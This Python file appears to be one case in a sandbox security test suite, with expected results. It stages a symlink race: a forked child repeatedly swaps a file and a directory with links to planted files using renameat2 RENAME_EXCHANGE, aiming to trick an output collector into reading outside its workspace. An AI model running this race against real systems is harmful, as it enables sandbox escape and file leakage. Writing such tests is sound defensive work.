# SPDX-License-Identifier: Apache-2.0
"""W13: a picture and a directory that become links to planted files and what they were again, as fast as it goes, while the script
ends and who collects looks for pictures: a grandchild exchanges them (RENAME_EXCHANGE)."""
import os

from attack import library_call, say

EXPECT = {"found": {"exchanged": True}, "free": {"exchanged": True}, "record": {"pictures": {"count": 1}}}  # its own
AT_FDCWD, RENAME_EXCHANGE = -100, 2
PICTURE = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010800000000"
                        "3a7e9b550000000a49444154789c636000000002000148afa4710000000049454e44ae426082")


def exchange(one, other):
    library_call("renameat2", AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)


def azureml_main():
    mine, told = os.pipe()
    os.mkdir("directory")
    for name, data in (("own.png", PICTURE), ("picture.png", b"no picture"), ("directory/picture.png", b"no picture")):
        with open(name, "wb") as file:
            file.write(data)
    os.symlink("/run/planted/picture.png", "link.png")
    os.symlink("/run/planted", "other")
    if os.fork() == 0:
        for number in range(1 << 30):
            exchange(b"picture.png", b"link.png")
            exchange(b"directory", b"other")
            if number == 1000:
                os.write(told, b"x")
    say({"exchanged": os.read(mine, 1) == b"x"})
